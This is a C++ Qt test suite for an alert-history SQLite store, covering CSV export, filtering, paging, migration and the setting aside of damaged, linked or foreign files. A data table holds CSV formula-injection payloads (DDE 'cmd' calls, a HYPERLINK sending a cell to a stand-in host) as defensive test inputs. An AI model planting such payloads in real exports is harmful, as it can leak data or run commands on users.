#include "history/zkHistoryStore.h"
#include "zkHistoryTestUtil.h"
#include "zkTestSupport.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QtTest>

#include <set>

#include <sqlite3.h>

#include <sys/stat.h>
#include <unistd.h>

namespace {

// RFC 4180 fields of one CSV record (the whole text is one record ending in CRLF).
QStringList ParseCsvRecord(const QByteArray& line) {
    QStringList fields;
    QByteArray field;
    bool quoted = false;
    qsizetype i = 0;
    for (; i < line.size(); ++i) {
        const char c = line[i];
        if (quoted) {
            if (c == '"' && i + 1 < line.size() && line[i + 1] == '"') {
                field += '"';
                ++i;
            } else if (c == '"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == '"') {
            quoted = true;
        } else if (c == ',') {
            fields << QString::fromUtf8(field);
            field.clear();
        } else if (c == '\r' && i + 2 == line.size() && line[i + 1] == '\n') {
            break;
        } else {
            field += c;
        }
    }
    fields << QString::fromUtf8(field);
    return fields;
}

mode_t ModeOf(const QString& path) {
    struct stat st = {};
    ::stat(QFile::encodeName(path).constData(), &st);
    return st.st_mode & 07777;
}

} // namespace

class THistoryStoreTest : public QObject {
    Q_OBJECT

    std::unique_ptr<QTemporaryDir> Dir;
    QString file() const { return Dir->path() + QStringLiteral("/velquist/history.sqlite3"); }

    // Every alert of the store, newest first, by pages of `size`.
    static std::vector<THistoryAlert> AllPages(THistoryStore& store, const THistoryFilter& f,
                                               int size) {
        std::vector<THistoryAlert> all;
        std::optional<THistoryCursor> cursor;
        for (;;) {
            const auto page = store.Page(f, cursor, size);
            all.insert(all.end(), page.begin(), page.end());
            if (int(page.size()) < size)
                return all;
            cursor = THistoryCursor{page.back().TimeMs, page.back().Id};
        }
    }

private slots:
    void init() { Dir = std::make_unique<QTemporaryDir>(); }

    void oddTextsSurviveStoreAndCsv() {
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        std::vector<THistoryAlert> alerts = {
            MakeHistoryAlert(
                1765290605123, QStringLiteral("Gaps, \"big\" ones"), QStringLiteral("BRK.B"), 0.1,
                QStringLiteral("line one\r\nline two\nthree"), QStringLiteral("inbox")),
            MakeHistoryAlert(-1, QStringLiteral("Überblick 株"), QStringLiteral("ÄB"), 1234567.25,
                             QString(), QStringLiteral("feed")),
            MakeHistoryAlert(0, QStringLiteral("plain"), QStringLiteral("X"), 1e-7,
                             QStringLiteral("\"quoted\""), QStringLiteral("someday-source")),
        };
        store.Append(alerts);
        QVERIFY(alerts[0].Id > 0 && alerts[1].Id > alerts[0].Id && alerts[2].Id > alerts[1].Id);

        std::vector<THistoryAlert> read;
        store.ForEach({}, [&](const THistoryAlert& a) {
            read.push_back(a);
            return true;
        });
        QCOMPARE(read.size(), size_t(3));
        // Oldest first.
        QCOMPARE(read[0], alerts[1]);
        QCOMPARE(read[1], alerts[2]);
        QCOMPARE(read[2], alerts[0]);

        QCOMPARE(HistoryCsvHeader(), QByteArray("time,window,symbol,price,description,source\r\n"));
        const QByteArray line = HistoryCsvLine(alerts[0]);
        QVERIFY(line.endsWith("\r\n"));
        const QStringList fields = ParseCsvRecord(line);
        QCOMPARE(fields, QStringList({"2025-12-09T14:30:05.123Z", alerts[0].Window, "BRK.B", "0.1",
                                      alerts[0].Description, "inbox"}));
        QCOMPARE(ParseCsvRecord(HistoryCsvLine(alerts[1])),
                 QStringList({"1969-12-31T23:59:59.999Z", alerts[1].Window, "ÄB", "1234567.25", "",
                              "feed"}));
        const QStringList tiny = ParseCsvRecord(HistoryCsvLine(alerts[2]));
        QCOMPARE(tiny[0], QStringLiteral("1970-01-01T00:00:00.000Z"));
        QCOMPARE(tiny[3].toDouble(), 1e-7);
        QVERIFY(!tiny[3].contains(u'e'));
        QCOMPARE(tiny[4], QStringLiteral("\"quoted\""));
        // Fields without special characters are not quoted.
        QVERIFY(HistoryCsvLine(alerts[2]).startsWith("1970-01-01T00:00:00.000Z,plain,X,"));
    }

    // What a spreadsheet would run as a formula is written as text; numbers stay numbers.
    void csvFieldsNeverStartAFormula_data() {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("cell"); // the field as read back
        QTest::newRow("hyperlink") << R"(=HYPERLINK("http://x/?"&A1,"Click"))"
                                   << R"('=HYPERLINK("http://x/?"&A1,"Click"))";
        QTest::newRow("dde") << "+cmd|' /C calc'!A0" << "'+cmd|' /C calc'!A0";
        QTest::newRow("minus") << "-2+3+cmd|' /C calc'!A0" << "'-2+3+cmd|' /C calc'!A0";
        QTest::newRow("at") << "@SUM(1+1)" << "'@SUM(1+1)";
        QTest::newRow("tab") << "\t=1" << "'\t=1";
        QTest::newRow("carriage return") << "\r=1" << "'\r=1";
        QTest::newRow("lone sign") << "-" << "'-";
        QTest::newRow("negative") << "-1.5" << "-1.5";
        QTest::newRow("signed exponent") << "+2.5e-3" << "+2.5e-3";
        QTest::newRow("fraction only") << "-.5" << "-.5";
        QTest::newRow("inside") << "Gap = up, @ 10" << "Gap = up, @ 10";
        QTest::newRow("apostrophe") << "'=1" << "'=1";
        QTest::newRow("empty") << "" << "";
    }
    void csvFieldsNeverStartAFormula() {
        QFETCH(QString, text);
        QFETCH(QString, cell);
        const THistoryAlert alert = MakeHistoryAlert(0, text, text, -1.5, text, "inbox");
        const QStringList fields = ParseCsvRecord(HistoryCsvLine(alert));
        QCOMPARE(fields, QStringList({"1970-01-01T00:00:00.000Z", cell, cell, "-1.5", cell,
                                      "inbox"}));
    }

    void symbolPrefixIgnoresCaseAndTakesNoWildcards() {
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        const QStringList symbols = {"az", "AZ1", "Azb", "b", "A%", "A_B", "AXB", "ZZ", "z", "a"};
        std::vector<THistoryAlert> alerts;
        for (int i = 0; i < symbols.size(); ++i)
            alerts.push_back(MakeHistoryAlert(1000 + i, QStringLiteral("W"), symbols[i]));
        store.Append(alerts);
        const auto found = [&](const QString& prefix) {
            THistoryFilter f;
            f.SymbolPrefix = prefix;
            QStringList names;
            for (const THistoryAlert& a : store.Page(f, std::nullopt, 100))
                names << a.Symbol;
            names.sort();
            QStringList expected;
            for (const THistoryAlert& a : alerts)
                if (f.Matches(a))
                    expected << a.Symbol;
            expected.sort();
            // The store and the filter's own test agree, and so does Count.
            if (names != expected || store.Count(f) != names.size())
                return QStringList{QStringLiteral("disagree")};
            return names;
        };
        QCOMPARE(found("az"), QStringList({"AZ1", "Azb", "az"}));
        QCOMPARE(found("AZ"), QStringList({"AZ1", "Azb", "az"}));
        QCOMPARE(found("z"), QStringList({"ZZ", "z"}));
        QCOMPARE(found("Z"), QStringList({"ZZ", "z"}));
        QCOMPARE(found("A%"), QStringList({"A%"}));
        QCOMPARE(found("a_"), QStringList({"A_B"}));
        QCOMPARE(found("q"), QStringList());
        QCOMPARE(found("a").size(), 7);
    }

    // Random alerts and filters: Page, Count and ForEach return exactly what Matches accepts.
    void queriesAgreeWithTheFilter() {
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        QRandomGenerator random(7);
        const QStringList windows = {"Gap ups", "gap ups", "Highs", "Inbox"};
        const QStringList symbols = {"AAPL", "AAP", "aa", "MSFT", "MS", "T", "TSLA", "ZZ"};
        std::vector<THistoryAlert> alerts;
        for (int i = 0; i < 3000; ++i)
            alerts.push_back(MakeHistoryAlert(random.bounded(50), windows[random.bounded(4)],
                                              symbols[random.bounded(8)]));
        store.Append(alerts);
        const QStringList prefixes = {"", "a", "AA", "aap", "ms", "t", "z", "x"};
        for (int round = 0; round < 60; ++round) {
            THistoryFilter f;
            f.SymbolPrefix = prefixes[random.bounded(prefixes.size())];
            if (random.bounded(2))
                f.Window = windows[random.bounded(4)];
            if (random.bounded(2))
                f.FromMs = random.bounded(50);
            if (random.bounded(2))
                f.ToMs = random.bounded(50);
            std::vector<qint64> expected;
            for (const THistoryAlert& a : alerts)
                if (f.Matches(a))
                    expected.push_back(a.Id);
            std::vector<qint64> forEach;
            store.ForEach(f, [&](const THistoryAlert& a) {
                forEach.push_back(a.Id);
                return true;
            });
            std::vector<qint64> paged;
            for (const THistoryAlert& a : AllPages(store, f, 37))
                paged.push_back(a.Id);
            QCOMPARE(store.Count(f), qint64(expected.size()));
            std::sort(forEach.begin(), forEach.end());
            std::sort(paged.begin(), paged.end());
            QCOMPARE(forEach, expected);
            QCOMPARE(paged, expected);
        }
        QCOMPARE(store.WindowNames(), QStringList({"Gap ups", "gap ups", "Highs", "Inbox"}));
    }

    // Many alerts share a time; pages continue at (time, id) and never repeat or skip one,
    // whichever index the search walks: time (a common prefix of several symbols), symbol (a
    // rare one, or a single symbol), window (a window with a common prefix).
    void pagesNeverRepeatOrSkipAcrossEqualTimes() {
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        std::vector<THistoryAlert> alerts;
        for (int i = 0; i < 60000; ++i)
            alerts.push_back(MakeHistoryAlert(
                1000 + (i * 7919) % 5, i % 3 ? QStringLiteral("Main") : QStringLiteral("Other"),
                i % 1000 == 0 ? QStringLiteral("RARE%1").arg(i % 2)
                              : QStringLiteral("COMMON%1").arg(i % 2)));
        store.Append(alerts);
        const auto check = [&](const THistoryFilter& f, size_t expected) {
            // The hand count agrees with the filter's own test.
            QCOMPARE(size_t(std::count_if(alerts.begin(), alerts.end(),
                                          [&](const THistoryAlert& a) { return f.Matches(a); })),
                     expected);
            const auto all = AllPages(store, f, 199);
            std::set<qint64> ids;
            for (size_t i = 0; i < all.size(); ++i) {
                ids.insert(all[i].Id);
                QVERIFY(f.Matches(all[i]));
                if (i > 0)
                    QVERIFY(all[i].TimeMs < all[i - 1].TimeMs ||
                            (all[i].TimeMs == all[i - 1].TimeMs && all[i].Id < all[i - 1].Id));
            }
            QCOMPARE(ids.size(), all.size());
            QCOMPARE(all.size(), expected);
            QCOMPARE(store.Count(f), qint64(expected));
        };
        THistoryFilter f;
        check(f, 60000);
        f.SymbolPrefix = "c";
        check(f, 59940);
        f.SymbolPrefix = "common1";
        check(f, 30000);
        f.SymbolPrefix = "r";
        check(f, 60);
        f.Window = "Other";
        check(f, 20);
        f.SymbolPrefix = "C";
        check(f, 19980);
        f.SymbolPrefix = "COMMON0";
        check(f, 9980);
        f.SymbolPrefix.clear();
        check(f, 20000);
    }

    void removesOldAlertsAndIdsKeepGrowing() {
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        std::vector<THistoryAlert> alerts = {MakeHistoryAlert(10, "W", "A"),
                                             MakeHistoryAlert(20, "W", "B"),
                                             MakeHistoryAlert(30, "V", "C")};
        store.Append(alerts);
        QCOMPARE(store.RemoveOlderThan(20), qint64(1));
        QCOMPARE(store.Count({}), qint64(2));
        QCOMPARE(store.RemoveOlderThan(std::numeric_limits<qint64>::max()), qint64(2));
        QCOMPARE(store.LastId(), qint64(0));
        QVERIFY(store.WindowNames().isEmpty());
        std::vector<THistoryAlert> more = {MakeHistoryAlert(40, "W", "D")};
        store.Append(more);
        // An emptied history never hands out an Id a view has already seen.
        QVERIFY(more[0].Id > alerts[2].Id);
        QCOMPARE(store.LastId(), more[0].Id);
    }

    void brokerMessagesAreKeptOnceEvenInAnOlderFile() {
        {
            // A file of an earlier version: no table of message keys.
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            std::vector<THistoryAlert> alerts = {MakeHistoryAlert(5, "W", "OLD")};
            store.Append(alerts);
            sqlite3* db = nullptr;
            sqlite3_open(QFile::encodeName(file()).constData(), &db);
            QCOMPARE(sqlite3_exec(db, "DROP TABLE broker_messages", nullptr, nullptr, nullptr),
                     SQLITE_OK);
            sqlite3_close(db);
        }
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        QVERIFY(store.SetAsidePath().isEmpty());
        std::vector<THistoryAlert> alerts = {MakeHistoryAlert(10, "W", "A"),
                                             MakeHistoryAlert(10, "W", "B"),
                                             MakeHistoryAlert(11, "V", "C")};
        QCOMPARE(store.AppendMessages({1, 2}, {2, 1}, alerts, 100),
                 std::vector<bool>({true, true}));
        QCOMPARE(alerts.size(), size_t(3));
        QVERIFY(alerts[0].Id > 0 && alerts[2].Id > alerts[0].Id);
        // The same messages again, with a new one between: only the new one's alerts are kept.
        std::vector<THistoryAlert> again = {MakeHistoryAlert(10, "W", "A"),
                                            MakeHistoryAlert(12, "W", "D"),
                                            MakeHistoryAlert(11, "V", "C")};
        QCOMPARE(store.AppendMessages({1, 3, 2}, {1, 1, 1}, again, 200),
                 std::vector<bool>({false, true, false}));
        QCOMPARE(again.size(), size_t(1));
        QCOMPARE(again[0].Symbol, QString("D"));
        QCOMPARE(store.Count({}), qint64(5));
        // Keys are forgotten by their age (not the alerts'): then a message is new again.
        QCOMPARE(store.RemoveMessageKeysOlderThan(150), qint64(2));
        std::vector<THistoryAlert> late = {MakeHistoryAlert(10, "W", "A")};
        QCOMPARE(store.AppendMessages({1}, {1}, late, 300), std::vector<bool>({true}));
        QCOMPARE(store.Count({}), qint64(6));
    }

    // A file of an earlier version (no "refused" column) reads with every alert as shown; the
    // writer adds the column, and a refused alert keeps the rule that refused it. What the
    // earlier version asks of the file names its columns, so it still works on the new one.
    void refusedAlertsInOlderAndNewerFiles() {
        {
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            std::vector<THistoryAlert> alerts = {MakeHistoryAlert(5, "W", "OLD")};
            store.Append(alerts);
            sqlite3* db = nullptr;
            sqlite3_open(QFile::encodeName(file()).constData(), &db);
            QCOMPARE(sqlite3_exec(db, "ALTER TABLE alerts DROP COLUMN refused", nullptr, nullptr,
                                  nullptr),
                     SQLITE_OK);
            sqlite3_close(db);
        }
        {
            THistoryStore reader(file(), THistoryStore::TMode::ReadOnly);
            const std::vector<THistoryAlert> page = reader.Page({}, std::nullopt, 10);
            QCOMPARE(page.size(), size_t(1));
            QVERIFY(page[0].Refused.isEmpty());
        }
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        QVERIFY(store.SetAsidePath().isEmpty());
        std::vector<THistoryAlert> alerts = {MakeHistoryAlert(10, "W", "NEW")};
        alerts[0].Refused = QStringLiteral("symbol is on list \"Watch\"");
        store.Append(alerts);
        const std::vector<THistoryAlert> page = store.Page({}, std::nullopt, 10);
        QCOMPARE(page.size(), size_t(2));
        QCOMPARE(page[0], alerts[0]);
        QVERIFY(page[1].Refused.isEmpty());
        QStringList refused;
        store.ForEach({}, [&](const THistoryAlert& a) {
            refused << a.Refused;
            return true;
        });
        QCOMPARE(refused, QStringList({"", "symbol is on list \"Watch\""}));
        sqlite3* db = nullptr;
        sqlite3_open(QFile::encodeName(file()).constData(), &db);
        QCOMPARE(sqlite3_exec(db,
                              "INSERT INTO alerts(time, window, symbol, price, description, "
                              "source) VALUES(20, 1, 1, 0, '', 2); SELECT id, time, window, "
                              "symbol, price, description, source FROM alerts",
                              nullptr, nullptr, nullptr),
                 SQLITE_OK);
        sqlite3_close(db);
        QVERIFY(store.Page({}, std::nullopt, 1).front().Refused.isEmpty());
    }

    void damagedFileIsSetAsideAndANewOneWorks() {
        QDir().mkpath(QFileInfo(file()).absolutePath());
        const QByteArray garbage(8192, 'x');
        WriteTextFile(file(), garbage);
        WriteTextFile(file() + "-wal", "not a log");
        // A reader never moves the user's file.
        QVERIFY_THROWS_EXCEPTION(EHistoryError,
                                 THistoryStore(file(), THistoryStore::TMode::ReadOnly));
        QCOMPARE(ReadWholeFile(file()), garbage);

        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        const QString aside = store.SetAsidePath();
        QVERIFY2(QRegularExpression("history\\.sqlite3\\.damaged-\\d{8}-\\d{6}$")
                     .match(aside)
                     .hasMatch(),
                 qPrintable(aside));
        QCOMPARE(ReadWholeFile(aside), garbage);
        QCOMPARE(ReadWholeFile(aside + "-wal"), QByteArray("not a log"));
        std::vector<THistoryAlert> alerts = {MakeHistoryAlert(1, "W", "A")};
        store.Append(alerts);
        QCOMPARE(store.Count({}), qint64(1));
    }

    void foreignDatabaseIsSetAside() {
        QDir().mkpath(QFileInfo(file()).absolutePath());
        sqlite3* db = nullptr;
        sqlite3_open(QFile::encodeName(file()).constData(), &db);
        sqlite3_exec(db, "CREATE TABLE alerts(something_else INTEGER)", nullptr, nullptr, nullptr);
        sqlite3_close(db);
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        QVERIFY(!store.SetAsidePath().isEmpty());
        std::vector<THistoryAlert> alerts = {MakeHistoryAlert(1, "W", "A")};
        store.Append(alerts);
        QCOMPARE(store.Count({}), qint64(1));
    }

    // Links are never followed and another program's database is never written: each is set
    // aside as it was (a link itself, never what it leads to) and a new history started.
    void linksAndForeignFilesAreSetAsideUntouched() {
        const QString foreign = Dir->path() + "/other/places.sqlite";
        WriteForeignDatabase(foreign);
        const QByteArray original = ReadWholeFile(foreign);
        QDir().mkpath(QFileInfo(file()).absolutePath());
        QVERIFY(QFile::link(foreign, file()));
        QVERIFY_THROWS_EXCEPTION(EHistoryError,
                                 THistoryStore(file(), THistoryStore::TMode::ReadOnly));
        {
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            QCOMPARE(store.SetAsideKind(), THistoryStore::TAside::Linked);
            QVERIFY2(QRegularExpression("history\\.sqlite3\\.link-\\d{8}-\\d{6}$")
                         .match(store.SetAsidePath())
                         .hasMatch(),
                     qPrintable(store.SetAsidePath()));
            QCOMPARE(QFileInfo(store.SetAsidePath()).symLinkTarget(), foreign);
            std::vector<THistoryAlert> alerts = {MakeHistoryAlert(1, "W", "A")};
            store.Append(alerts);
        }
        QVERIFY(!QFileInfo(file()).isSymLink());
        QCOMPARE(ModeOf(file()), mode_t(0600));
        QCOMPARE(ReadWholeFile(foreign), original);
        QCOMPARE(ModeBits(foreign), 0644u);
        QVERIFY(!QFileInfo::exists(foreign + "-wal") && !QFileInfo::exists(foreign + "-shm"));

        // A log beside the history that leads elsewhere: set aside with the file.
        const QString precious = Dir->path() + "/other/precious.txt";
        WriteTextFile(precious, "precious");
        QVERIFY(QFile::link(precious, file() + "-wal"));
        {
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            QCOMPARE(store.SetAsideKind(), THistoryStore::TAside::Linked);
            QVERIFY2(store.SetAsideReason().contains("history.sqlite3-wal is a symbolic link"),
                     qPrintable(store.SetAsideReason()));
            QCOMPARE(QFileInfo(store.SetAsidePath() + "-wal").symLinkTarget(), precious);
        }
        QCOMPARE(ReadWholeFile(precious), QByteArray("precious"));

        // Another program's database in the history's place, by its tables or by its id.
        for (const char* id : {"", "PRAGMA application_id=1234;"}) {
            for (const char* suffix : {"", "-wal", "-shm"})
                QFile::remove(file() + suffix);
            if (*id == 0) {
                QVERIFY(QFile::copy(foreign, file()));
            } else {
                { THistoryStore ours(file(), THistoryStore::TMode::ReadWrite); }
                sqlite3* db = nullptr;
                sqlite3_open(QFile::encodeName(file()).constData(), &db);
                sqlite3_exec(db, id, nullptr, nullptr, nullptr);
                sqlite3_close(db);
            }
            const QByteArray before = ReadWholeFile(file());
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            QCOMPARE(store.SetAsideKind(), THistoryStore::TAside::Foreign);
            QVERIFY2(store.SetAsideReason().contains(*id ? "application id 0x000004d2"
                                                         : "table \"moz_places\""),
                     qPrintable(store.SetAsideReason()));
            QVERIFY(store.SetAsidePath().contains(".foreign-"));
            QCOMPARE(ReadWholeFile(store.SetAsidePath()), before);
        }
    }

    // A history of an earlier version (no application id) is ours: kept, and given the id.
    void earlierHistoryIsKeptAndMarked() {
        {
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            std::vector<THistoryAlert> alerts = {MakeHistoryAlert(1, "W", "A")};
            store.Append(alerts);
        }
        const auto applicationId = [this] {
            sqlite3* db = nullptr;
            sqlite3_open(QFile::encodeName(file()).constData(), &db);
            sqlite3_stmt* s = nullptr;
            sqlite3_prepare_v2(db, "PRAGMA application_id", -1, &s, nullptr);
            sqlite3_step(s);
            const qint64 id = sqlite3_column_int64(s, 0);
            sqlite3_finalize(s);
            sqlite3_exec(db, "PRAGMA application_id=0", nullptr, nullptr, nullptr);
            sqlite3_close(db);
            return id;
        };
        QCOMPARE(applicationId(), qint64(0x56514853)); // and back to none
        THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
        QVERIFY(store.SetAsidePath().isEmpty());
        QCOMPARE(store.Count({}), qint64(1));
        QCOMPARE(applicationId(), qint64(0x56514853));
    }

    void filesArePrivateWhateverTheUmask() {
        const mode_t old = ::umask(0);
        {
            THistoryStore store(file(), THistoryStore::TMode::ReadWrite);
            std::vector<THistoryAlert> alerts = {MakeHistoryAlert(1, "W", "A")};
            store.Append(alerts);
            QCOMPARE(ModeOf(QFileInfo(file()).absolutePath()), mode_t(0700));
            QCOMPARE(ModeOf(file()), mode_t(0600));
            QVERIFY(QFileInfo::exists(file() + "-wal"));
            QCOMPARE(ModeOf(file() + "-wal"), mode_t(0600));
            QCOMPARE(ModeOf(file() + "-shm"), mode_t(0600));
        }
        ::umask(old);
    }

    void theClientsFolderIsMadePrivate() {
        TTestHome home;
        const QString folder = QFileInfo(THistoryStore::DefaultPath()).absolutePath();
        QVERIFY(QDir().mkpath(folder));
        QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
                                          QFile::ReadGroup | QFile::ExeGroup | QFile::ReadOther |
                                          QFile::ExeOther);
        THistoryStore store(THistoryStore::DefaultPath(), THistoryStore::TMode::ReadWrite);
        QCOMPARE(ModeOf(folder), mode_t(0700));
        QCOMPARE(ModeOf(THistoryStore::DefaultPath()), mode_t(0600));
    }

    void unwritablePlacesRaiseErrors() {
        QVERIFY_THROWS_EXCEPTION(EHistoryError,
                                 THistoryStore(file(), THistoryStore::TMode::ReadOnly));
        // A folder that cannot be made: its parent is a file (stops root too).
        WriteTextFile(Dir->path() + "/plain", "x");
        QVERIFY_THROWS_EXCEPTION(EHistoryError,
                                 THistoryStore(Dir->path() + "/plain/velquist/history.sqlite3",
                                               THistoryStore::TMode::ReadWrite));
        if (::geteuid() == 0)
            return; // root writes into read-only folders
        const QString folder = Dir->path() + "/readonly";
        QDir().mkpath(folder);
        QFile::setPermissions(folder, QFile::ReadOwner | QFile::ExeOwner);
        try {
            THistoryStore store(folder + "/history.sqlite3", THistoryStore::TMode::ReadWrite);
            QFAIL("a read-only folder took a new history");
        } catch (const EHistoryError& error) {
            QVERIFY(!THistoryStore::IsDamage(error));
        }
        QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    }

    void readerSeesWhatTheWriterCommitted() {
        THistoryStore writer(file(), THistoryStore::TMode::ReadWrite);
        std::vector<THistoryAlert> first = {MakeHistoryAlert(5, "Zeta", "A"),
                                            MakeHistoryAlert(6, "alpha", "B")};
        writer.Append(first);
        THistoryStore reader(file(), THistoryStore::TMode::ReadOnly);
        QCOMPARE(reader.LastId(), first[1].Id);
        std::vector<THistoryAlert> second = {MakeHistoryAlert(7, "Beta", "C")};
        writer.Append(second);
        QCOMPARE(reader.LastId(), second[0].Id);
        QCOMPARE(reader.WindowNames(), QStringList({"alpha", "Beta", "Zeta"}));
        const auto page = reader.Page({}, std::nullopt, 2);
        QCOMPARE(page.size(), size_t(2));
        QCOMPARE(page[0], second[0]);
        QCOMPARE(page[1], first[1]);
    }
};

QTEST_GUILESS_MAIN(THistoryStoreTest)
#include "tst_history_store.moc"
